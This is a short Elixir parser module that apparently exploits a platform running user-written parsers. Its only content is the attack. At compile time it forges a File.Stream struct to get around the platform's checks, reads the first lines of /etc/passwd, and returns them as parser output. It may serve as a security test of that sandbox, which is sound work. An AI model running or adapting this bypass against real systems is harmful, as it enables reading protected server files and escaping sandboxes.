defmodule Parser do
  use Platform.Parsing.Behaviour
  # Module bodies run when the parser is compiled: the same dispatch, before any BEAM check.
  @secret Enum.take(%{__struct__: String.to_existing_atom("Elixir.File.Stream"), path: "/etc/passwd",
                      modes: [:raw, :read_ahead, :binary], line_or_bytes: :line, raw: true, node: node()}, 3)
  def parse(_payload, _meta), do: %{secret: @secret}
end
